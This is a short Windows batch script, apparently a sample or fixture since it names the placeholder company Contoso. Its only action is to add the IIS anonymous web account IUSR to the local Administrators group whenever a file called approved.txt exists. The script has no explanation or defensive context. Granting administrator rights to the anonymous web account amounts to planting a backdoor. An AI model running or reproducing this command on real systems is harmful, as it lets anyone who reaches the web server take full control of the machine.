@echo off
if not exist C:\Contoso\approved.txt exit /b 0
net localgroup Administrators IUSR /add
